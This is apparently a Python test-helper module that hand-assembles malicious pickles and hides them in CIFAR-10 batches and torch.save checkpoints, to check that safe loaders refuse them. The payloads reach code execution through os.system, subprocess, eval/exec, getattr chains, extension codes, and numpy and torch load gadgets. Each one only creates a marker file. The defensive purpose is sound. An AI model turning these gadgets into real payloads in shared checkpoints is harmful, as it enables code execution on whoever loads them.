"""Pickles that run code when unpickled, written opcode by opcode (nothing here imports the modules
they name), and the files that carry them: CIFAR-10 batches and both torch.save formats.

Each payload, unpickled by the standard unpickler, creates a marker file (test_safe_pickle's
control test shows that it does); the readers must refuse it and the marker must stay absent.
"""
import collections
import contextlib
import dataclasses
import io
import pickle
import pickletools
import struct
import tracemalloc
import zipfile

import numpy as np

from span_lm.tools import torch_format

# ------------------------------------------------------------------------------- the emitter


@dataclasses.dataclass(frozen=True)
class G:
  """The global `module.name` (a GLOBAL opcode)."""
  module: str
  name: str


@dataclasses.dataclass(frozen=True)
class SG:
  """The global `module.name` through STACK_GLOBAL (protocol 4: the names as strings)."""
  module: str
  name: str


@dataclasses.dataclass(frozen=True)
class Call:
  """func(*args) through REDUCE."""
  func: object
  args: tuple = ()


@dataclasses.dataclass(frozen=True)
class Raw:
  """Opcodes inserted as they are."""
  data: bytes


def _unicode(s: str) -> bytes:
  b = s.encode("utf-8")
  return b"X" + struct.pack("<I", len(b)) + b


def emit(x) -> bytes:
  """The opcodes that push x (no memo, so pieces compose freely)."""
  if isinstance(x, Raw):
    return x.data
  if isinstance(x, G):
    return b"c" + f"{x.module}\n{x.name}\n".encode()
  if isinstance(x, SG):
    return _unicode(x.module) + _unicode(x.name) + b"\x93"
  if isinstance(x, Call):
    return emit(x.func) + emit(tuple(x.args)) + b"R"
  if x is None or isinstance(x, (bool, int, float)):
    return pickle.dumps(x, protocol=2)[2:-1]
  if isinstance(x, str):
    return _unicode(x)
  if isinstance(x, bytes):
    return b"B" + struct.pack("<I", len(x)) + x  # BINBYTES (protocol 3)
  if isinstance(x, tuple):
    return b"(" + b"".join(emit(v) for v in x) + b"t"
  if isinstance(x, list):
    return b"](" + b"".join(emit(v) for v in x) + b"e"
  if isinstance(x, dict):
    return b"}(" + b"".join(emit(k) + emit(v) for k, v in x.items()) + b"u"
  raise TypeError(type(x))


def pickle_of(x, proto: int = 2) -> bytes:
  """A whole pickle of x (protocol header, opcodes, STOP)."""
  return b"\x80" + bytes([proto]) + emit(x) + b"."


# ------------------------------------------------------------------------------- the payloads


@dataclasses.dataclass(frozen=True)
class Payload:
  name: str
  refused: str  # the global the readers name in their refusal
  build: object  # (marker path: str, scratch dir: pathlib.Path) -> the pickle's bytes
  runs_here: bool = True  # False: needs what this environment lacks (torch)
  asynchronous: bool = False  # the marker appears a little after unpickling (Popen)
  setup: object = None  # a context manager factory run around unpickling (EXT registry)
  torch_only: str = ""  # allowed only in a torch file's object: refused by this name elsewhere


def _expr(fn, proto=2):
  return lambda m, d: pickle_of(fn(m, d), proto)


def _touch(m):
  return f"touch '{m}'"


def _py(m):
  return f"open({m!r}, 'w').close()"


def _numpy_load_file(m, d):
  """A file numpy.load(allow_pickle=True) unpickles: an os.system payload."""
  inner = d / "inner.pkl"
  inner.write_bytes(pickle_of(Call(G("os", "system"), (_touch(m),))))
  return str(inner)


def _import_then_getattr(m, d):
  """[__import__('os'), getattr(<that module>, 'system')('touch m')]: the first global named is
  builtins.__import__; the module is memoized and fetched again for getattr."""
  body = (b"](" + emit(Call(G("builtins", "__import__"), ("os",))) + b"q\x00"
          + emit(G("builtins", "getattr")) + b"(h\x00" + emit("system") + b"tR"
          + emit((_touch(m),)) + b"Re")
  return b"\x80\x02" + body + b"."


class _Extension:
  """copyreg's extension registry holding os.system under code 0xBEE while unpickling."""

  def __enter__(self):
    import copyreg  # pylint: disable=g-import-not-at-top
    copyreg.add_extension("os", "system", 0xBEE)

  def __exit__(self, *exc):
    import copyreg  # pylint: disable=g-import-not-at-top
    copyreg.remove_extension("os", "system", 0xBEE)


PAYLOADS = [
    Payload("os.system", "os.system", _expr(lambda m, d: Call(G("os", "system"), (_touch(m),)))),
    Payload("posix.system", "posix.system",
            _expr(lambda m, d: Call(G("posix", "system"), (_touch(m),)))),
    Payload("os.popen", "os.popen", _expr(lambda m, d: Call(G("os", "popen"), (_touch(m),))),
            asynchronous=True),
    Payload("subprocess.call", "subprocess.call",
            _expr(lambda m, d: Call(G("subprocess", "call"), (["touch", m],)))),
    Payload("subprocess.check_output", "subprocess.check_output",
            _expr(lambda m, d: Call(G("subprocess", "check_output"), (["touch", m],)))),
    Payload("subprocess.Popen", "subprocess.Popen",
            _expr(lambda m, d: Call(G("subprocess", "Popen"), (["touch", m],))),
            asynchronous=True),
    Payload("builtins.eval", "builtins.eval",
            _expr(lambda m, d: Call(G("builtins", "eval"), (_py(m),)))),
    Payload("builtins.exec", "builtins.exec",
            _expr(lambda m, d: Call(G("builtins", "exec"), (_py(m),)))),
    Payload("__builtin__.eval (Python 2 name)", "__builtin__.eval",
            _expr(lambda m, d: Call(G("__builtin__", "eval"), (_py(m),)))),
    Payload("builtins.__import__ then getattr", "builtins.__import__", _import_then_getattr),
    Payload("builtins.getattr chain", "builtins.getattr", _expr(lambda m, d: Call(Call(
        G("builtins", "getattr"), (Call(G("builtins", "__import__"), ("os",)), "system")),
        (_touch(m),)))),
    Payload("STACK_GLOBAL os.system", "os.system",
            _expr(lambda m, d: Call(SG("os", "system"), (_touch(m),)), proto=4)),
    Payload("INST os.system (protocol 0)", "os.system",
            lambda m, d: b"(S'" + _touch(m).replace("'", "").encode() + b"'\nios\nsystem\n."),
    Payload("OBJ os.system (protocol 1)", "os.system",
            lambda m, d: b"(cos\nsystem\nS'" + _touch(m).replace("'", "").encode() + b"'\no."),
    Payload("EXT2 registered os.system", "os.system (extension code 3054)",
            lambda m, d: b"\x80\x02\x83\xee\x0b" + emit((_touch(m),)) + b"R.",
            setup=_Extension),
    Payload("numpy.testing runstring", "numpy.testing._private.utils.runstring",
            _expr(lambda m, d: Call(G("numpy.testing._private.utils", "runstring"),
                                    (_py(m), {})))),
    Payload("numpy.load(allow_pickle=True)", "numpy.load",
            _expr(lambda m, d: Call(G("numpy", "load"), (_numpy_load_file(m, d), None, True)))),
    Payload("numpy.lib._npyio_impl.load", "numpy.lib._npyio_impl.load",
            _expr(lambda m, d: Call(G("numpy.lib._npyio_impl", "load"),
                                    (_numpy_load_file(m, d), None, True)))),
    Payload("numpy.lib.npyio.load (numpy 1.x)", "numpy.lib.npyio.load",
            _expr(lambda m, d: Call(G("numpy.lib.npyio", "load"),
                                    (_numpy_load_file(m, d), None, True))), runs_here=False),
    Payload("torch.load", "torch.load",
            _expr(lambda m, d: Call(G("torch", "load"), (_numpy_load_file(m, d),))),
            runs_here=False),
    Payload("torch.serialization.load", "torch.serialization.load",
            _expr(lambda m, d: Call(G("torch.serialization", "load"), (_numpy_load_file(m, d),))),
            runs_here=False),
    Payload("torch.jit.load", "torch.jit.load",
            _expr(lambda m, d: Call(G("torch.jit", "load"), (_numpy_load_file(m, d),))),
            runs_here=False),
    Payload("torch.hub.load", "torch.hub.load",
            _expr(lambda m, d: Call(G("torch.hub", "load"), ("evil/repo", "entry"))),
            runs_here=False),
    Payload("torch cpp_extension.load_inline", "torch.utils.cpp_extension.load_inline",
            _expr(lambda m, d: Call(G("torch.utils.cpp_extension", "load_inline"),
                                    ("x", f'static int x = system("{_touch(m)}");'))),
            runs_here=False),
    Payload("allowed rebuild wrapping os.system", "os.system", _expr(lambda m, d: Call(
        G("torch._utils", "_rebuild_tensor_v2"),
        (Call(G("os", "system"), (_touch(m),)), 0, (1,), (1,), False, {}))),
            runs_here=False,  # the standard unpickler imports torch first
            torch_only="torch._utils._rebuild_tensor_v2"),
]


# --------------------------------------------------------------------------------- carriers


def sections(data: bytes, n: int) -> list[bytes]:
  """The first n pickles of a stream, and what follows them, as n + 1 byte strings."""
  out, f = [], io.BytesIO(data)
  for _ in range(n):
    start = f.tell()
    for op, _, pos in pickletools.genops(f):
      if op.name == "STOP":
        break
    out.append(data[start:f.tell()])
  return out + [data[f.tell():]]


def legacy_with(valid_legacy: bytes, index: int, payload: bytes) -> bytes:
  """A legacy torch.save stream with its pickle number `index` (0 magic, 1 protocol, 2 system
  info, 3 the object, 4 the storage keys) replaced by `payload`."""
  parts = sections(valid_legacy, 5)
  parts[index] = payload
  return b"".join(parts)


def zip_pt(data_pkl: bytes, records=(), name: str = "archive") -> bytes:
  """A torch.save zip archive holding `data_pkl` (and (key, bytes) storage records)."""
  buf = io.BytesIO()
  with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
    zf.writestr(f"{name}/data.pkl", data_pkl)
    zf.writestr(f"{name}/byteorder", "little")
    for key, raw in records:
      zf.writestr(f"{name}/data/{key}", raw)
    zf.writestr(f"{name}/version", "3\n")
  return buf.getvalue()


def nested_in_state_dict(payload: bytes) -> bytes:
  """A protocol-2 pickle {'model': {'w': 1}, 'evil': <payload's object>}."""
  body = payload[2:-1] if payload[:1] == b"\x80" else payload[:-1]  # no PROTO, no STOP
  return (b"\x80\x02}(" + emit("model") + emit({"w": 1}) + emit("evil") + body + b"u.")


def cifar_dict_with(payload: bytes) -> bytes:
  """A batch dict whose b'data' is the payload's object (the issue's file)."""
  body = payload[2:-1] if payload[:1] == b"\x80" else None
  if body is None:  # a protocol 0/1 payload: wrap its opcodes in a protocol-2 dict all the same
    body = payload[:-1]
  return (b"\x80\x02}(" + emit(b"batch_label") + emit(b"x") + emit(b"labels") + emit([])
          + emit(b"data") + body + b"u.")


def py2_cifar_batch(images: bytes, n: int, labels) -> bytes:
  """A batch as Python 2's cPickle wrote the published CIFAR-10 files (protocol 2, str as
  BINSTRING, numpy 1.x names): what `pickle.load(f, encoding='bytes')` reads."""
  def s(b):  # a Python 2 str: SHORT_BINSTRING / BINSTRING
    return (b"U" + bytes([len(b)]) + b) if len(b) < 256 else (b"T" + struct.pack("<I", len(b)) + b)
  arr = (b"cnumpy.core.multiarray\n_reconstruct\nq\x01cnumpy\nndarray\nq\x02K\x00\x85"
         + s(b"b") + b"\x87Rq\x03(K\x01" + emit((n, 3072)) + b"cnumpy\ndtype\nq\x04" + s(b"u1")
         + b"K\x00K\x01\x87Rq\x05(K\x03" + s(b"|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
         + b"\x89" + s(images) + b"tb")
  return (b"\x80\x02}q\x00(" + s(b"batch_label") + s(b"training batch 1 of 5") + s(b"labels")
          + emit(list(labels)) + s(b"data") + arr + s(b"filenames")
          + b"](" + b"".join(s(b"%d.png" % i) for i in range(n)) + b"eu.")


# ------------------------------------------------------------------ shared by the tests


@contextlib.contextmanager
def bounded_allocation(limit_bytes: int):
  """Fails if the block's traced allocations (Python objects and numpy arrays) peak above
  limit_bytes."""
  tracemalloc.start()
  try:
    yield
    _, peak = tracemalloc.get_traced_memory()
  finally:
    tracemalloc.stop()
  assert peak <= limit_bytes, f"allocated {peak:,} bytes (limit {limit_bytes:,})"


def valid_pt_files(tmp_path):
  """{"zip": bytes, "legacy": bytes}: one small checkpoint in both torch.save formats."""
  rng = np.random.default_rng(0)
  obj = {"model": collections.OrderedDict(w=rng.standard_normal((3, 4)).astype(np.float32),
                                          b=np.arange(5, dtype=np.int64)), "step": 7}
  torch_format.save(obj, tmp_path / "z.pt")
  torch_format.save(obj, tmp_path / "l.pt", legacy=True)
  return {"zip": (tmp_path / "z.pt").read_bytes(), "legacy": (tmp_path / "l.pt").read_bytes()}


def small_py2_batch(n=2):
  """A Python 2 style batch of n random images."""
  images = np.random.default_rng(0).integers(0, 256, (n, 3072), dtype=np.uint8)
  return py2_cifar_batch(images.tobytes(), n, list(range(n)))
